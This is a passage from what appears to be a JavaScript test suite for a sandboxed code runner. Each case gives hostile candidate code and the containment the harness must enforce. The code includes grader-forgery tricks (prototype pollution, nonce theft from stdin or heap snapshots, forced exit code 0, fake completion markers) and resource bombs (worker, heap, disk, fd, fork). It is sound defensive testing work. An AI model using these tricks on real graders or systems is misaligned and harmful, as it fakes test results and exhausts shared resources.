    inputs: [[1], [2], [3]],
  },
  {
    name: 'prototype-pollution-worker-realm', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'Object/Array prototype pollution and a replaced JSON in the worker realm forge no result',
    code: () => `const O = P.constructor.constructor('return Object')(); const A = P.constructor.constructor('return Array')(); const J = P.constructor.constructor('return JSON')();
      O.prototype.s = 'ok'; O.prototype.v = '42'; O.prototype.status = 'ok'; O.prototype.i = 0; A.prototype.s = 'ok';
      J.stringify = () => '{"i":0,"s":"ok","v":"42"}'; J.parse = () => ({ i: 0, s: 'ok', v: '42' });
      ${NEVER}`,
  },
  {
    name: 'stdin-reread-for-nonce', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'fd 0 and /dev/stdin no longer hold the nonce when the candidate reads them',
    code: () => `${FORGE} const fs = req('fs'); let text = ''; for (const src of [0, '/dev/stdin', '/proc/self/fd/0']) { try { text += fs.readFileSync(src, 'latin1'); } catch (e) { say('stdin ' + why(e)); } }
      const n = nonceIn(text); if (n.length) { hit('nonce from stdin'); forge(n, 2); P.reallyExit(0); }
      ${NEVER}`,
  },
  {
    name: 'fd3-flood', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'flooding fd 3 ends the run at the channel cap without a pass',
    code: () => `const fs = req('fs'); const s = 'WG' + 'a'.repeat(32) + ' {"i":0,"s":"ok","v":"42"}\\n'; const big = s.repeat(4096); for (let i = 0; i < 200; i++) { try { fs.writeSync(3, big); } catch (e) { break; } }
      ${NEVER}`,
  },
  {
    name: 'throw-non-errors', category: 'forgery', mode: 'probe', expect: 'no-ok',
    containment: 'throwing a Symbol, a trapping Proxy, an object whose getters throw, or null is a threw result, and the harness survives',
    code: () => `function solve(n) {
      if (n === 1) throw Symbol('x');
      if (n === 2) throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, ownKeys() { throw new Error('trap'); } });
      if (n === 3) throw { get message() { throw new Error('getter'); }, get name() { throw new Error('getter'); } };
      throw null; }`,
    inputs: [[1], [2], [3], [4]],
  },
  {
    name: 'hostile-return-values', category: 'forgery', mode: 'probe', expect: 'complete',
    containment: 'a trapping Proxy, a throwing getter, a 4 MB string and 100,000-deep nesting come back bounded, and the harness survives',
    code: () => `function solve(n) {
      if (n === 1) return new Proxy({}, { get() { throw new Error('trap'); }, ownKeys() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); } });
      if (n === 2) return { get x() { throw new Error('getter'); } };
      if (n === 3) return 'x'.repeat(4 << 20);
      let a = []; for (let i = 0; i < 100000; i++) a = [a]; return a; }`,
    inputs: [[1], [2], [3], [4]],
    perInputMs: 1500,
  },
  // ── result forgery against runTestProgram ──────────────────────────────────────────────
  {
    name: 'tests-early-exit-0', category: 'forgery', mode: 'tests',
    containment: 'exit 0 before the tests ran is not a pass',
    code: () => `P.exit(0);`,
  },
  {
    name: 'tests-marker-with-guessed-nonces', category: 'forgery', mode: 'tests',
    containment: 'completion markers tagged with guessed nonces, then reallyExit(0), are not a pass',
    code: () => `const fs = req('fs'); for (let i = 0; i < 100; i++) fs.writeSync(3, '\\nWG' + req('crypto').randomBytes(16).toString('hex') + ' tests-completed\\n'); fs.writeSync(3, '\\nWG' + '0'.repeat(32) + ' tests-completed\\n'); P.reallyExit(0);`,
  },
  {
    name: 'tests-heap-snapshot-marker', category: 'forgery', mode: 'tests',
    containment: "a heap snapshot of the program's own isolate holds no nonce, so no completion marker can be forged",
    code: () => `${FORGE} const n = nonceIn(req('v8').getHeapSnapshot().read().toString('latin1')); say('nonces ' + n.length); for (const x of n) req('fs').writeSync(3, '\\n' + x + ' tests-completed\\n'); P.reallyExit(0);`,
    limits: { wallMs: 15000 },
  },
  {
    name: 'tests-swallow-failure', category: 'forgery', mode: 'tests',
    containment: "an uncaughtException handler or an exit hook that forces code 0 does not turn a failing test into a pass",
    code: () => `P.on('uncaughtException', () => P.exit(0)); P.on('exit', () => { P.exitCode = 0; }); const fs = req('fs'); P.on('exit', () => { try { fs.writeSync(3, '\\nWG' + '0'.repeat(32) + ' tests-completed\\n'); } catch (e) {} });`,
  },
  {
    name: 'tests-completion-on-parent-port', category: 'forgery', mode: 'tests',
    containment: "a completion report posted on parentPort (or on any port found in workerData) is not the runner's private channel",
    code: () => `const wt = req('worker_threads'); if (wt.parentPort) wt.parentPort.postMessage('tests-completed');
      for (const v of Object.values(wt.workerData || {})) if (v && typeof v.postMessage === 'function') { hit('port in workerData'); v.postMessage('tests-completed'); }`,
  },
  {
    name: 'tests-inspector-main-thread', category: 'forgery', mode: 'tests',
    containment: "the program cannot attach an inspector session to the runner's thread to read the nonce",
    code: () => `try { const s = new (req('inspector').Session)(); s.connectToMainThread(); s.post('Runtime.evaluate', { expression: 'nonce' }, (e, r) => { if (r && r.result && r.result.value) { hit('nonce from runner'); req('fs').writeSync(3, '\\n' + r.result.value + ' tests-completed\\n'); } }); } catch (e) { say('blocked ' + why(e)); }`,
  },
  {
    name: 'tests-stdin-reread', category: 'forgery', mode: 'tests',
    containment: 'the nonce cannot be read back from stdin',
    code: () => `${FORGE} let text = ''; for (const src of [0, '/dev/stdin']) { try { text += req('fs').readFileSync(src, 'latin1'); } catch (e) {} } for (const x of nonceIn(text)) { hit('nonce from stdin'); req('fs').writeSync(3, '\\n' + x + ' tests-completed\\n'); } P.reallyExit(0);`,
  },
  // ── resource exhaustion ────────────────────────────────────────────────────────────────
  {
    name: 'worker-spam-in-probe', category: 'resources', mode: 'probe',
    containment: 'a worker-thread bomb from the candidate ends within its limits (memory, wall clock)',
    code: () => `const { Worker } = req('worker_threads'); const ws = []; try { for (let i = 0; i < 400; i++) ws.push(new Worker('setInterval(() => {}, 1000)', { eval: true })); } catch (e) { say('workers ' + ws.length + ' ' + why(e)); }
      function solve(n) { return n; }`,
  },
  {
    name: 'worker-spam-in-run', category: 'resources', mode: 'run',
    containment: 'a plain run may not start workers at all',
    code: () => `attempt('new Worker', () => { const { Worker } = require('worker_threads'); for (let i = 0; i < 200; i++) new Worker('0', { eval: true }); });`,
  },
  {
    name: 'cpu-burn-in-many-workers', category: 'resources', mode: 'probe',
    containment: 'eight busy worker threads are stopped by RLIMIT_CPU or the wall clock',
    code: () => `const { Worker } = req('worker_threads'); for (let i = 0; i < 8; i++) new Worker('for (;;) {}', { eval: true });
      function solve(n) { return n; }`,
  },
  {
    name: 'heap-bomb-in-worker', category: 'resources', mode: 'probe', expect: 'no-ok',
    containment: "a JS heap bomb in the worker ends without a pass (the worker's heap cap, or the input's time slice first)",
    code: () => `function solve(n) { const a = []; for (;;) a.push(new Array(1e6).fill(n + 0.5)); }`,
    limits: { memoryMb: 64 },
  },
  {
    name: 'off-heap-bomb-in-worker', category: 'resources', mode: 'probe', expect: 'no-ok',
    containment: 'a Buffer bomb outside the JS heap ends without a pass (RLIMIT_DATA, or the time slice first)',
    code: () => `function solve(n) { const b = []; for (;;) b.push(Buffer.alloc(32 << 20, 1)); }`,
    limits: { memoryMb: 64 },
  },
  {
    name: 'disk-fill-in-temp-dir', category: 'resources', mode: 'run',
    containment: 'one huge file stops at RLIMIT_FSIZE; many files end with the wall clock and the whole dir is removed',
    code: () => `const fs = req('fs'); const mb = Buffer.alloc(1 << 20, 120); let i = 0; try { for (; i < 200; i++) fs.writeFileSync('fill-' + i, mb); } catch (e) { say('fill ' + why(e)); }
      const fd = fs.openSync('huge', 'w'); for (let k = 0; k < 64; k++) fs.writeSync(fd, mb);`,
  },
  {
    name: 'fd-exhaustion', category: 'resources', mode: 'run',
    containment: 'opening files until EMFILE hurts only the child',
    code: () => `const fs = req('fs'); fs.writeFileSync('f', 'x'); const fds = []; try { for (;;) fds.push(fs.openSync('f', 'r')); } catch (e) { say('fds ' + fds.length + ' ' + why(e)); }`,
  },
  {
    name: 'stdout-flood', category: 'resources', mode: 'run',
    containment: 'a stdout flood ends at the output cap',
    code: () => `const s = 'y'.repeat(1 << 16); for (;;) req('fs').writeSync(1, s);`,
  },
  {
    name: 'stderr-flood', category: 'resources', mode: 'run',
    containment: 'a stderr flood ends at the output cap',
    code: () => `const s = 'z'.repeat(1 << 16); for (;;) req('fs').writeSync(2, s);`,
  },
  {
    name: 'channel-flood-in-run', category: 'resources', mode: 'run',
    containment: 'an fd 3 flood ends at the channel cap',
    code: () => `const s = 'c'.repeat(1 << 16); for (;;) req('fs').writeSync(3, s);`,
  },
  {
    name: 'timers-that-never-end', category: 'resources', mode: 'run',
    containment: 'intervals, re-armed timeouts and a SIGTERM handler end at the wall clock',
    code: () => `setInterval(() => {}, 5); const again = () => setTimeout(again, 1); again(); P.on('SIGTERM', () => {}); P.on('SIGINT', () => {});`,
    limits: { wallMs: 3000 },
  },
  {
    name: 'blocked-worker-event-loop', category: 'resources', mode: 'probe', expect: 'no-ok',
    containment: "a busy loop scheduled on the worker realm's own timers (outside the vm timeout) is cut by the verdict thread's backstop",
    code: () => `function solve(n) { req('timers').setTimeout(() => { for (;;) {} }, 0); return new Promise(() => {}); }`,
  },
  {
    name: 'spawn-bomb', category: 'resources', mode: 'run',
    containment: 'no process can be spawned, so a fork bomb goes nowhere',
    code: () => `${SPAWN} for (let i = 0; i < 3; i++) { attempt('fork ' + i, () => require('child_process').spawn(P.execPath, ['-e', 'for(;;){}'])); rawSpawn('raw fork ' + i, '/bin/sh', ['-c', 'true']); }`,
  },
  {
    name: 'threadpool-saturation', category: 'resources', mode: 'run',
    containment: 'a thousand queued pbkdf2 jobs end at the wall clock',
    code: () => `const c = req('crypto'); for (let i = 0; i < 1000; i++) c.pbkdf2('p', 's', 5e6, 64, 'sha512', () => {});`,
    limits: { wallMs: 3000 },
  },
];
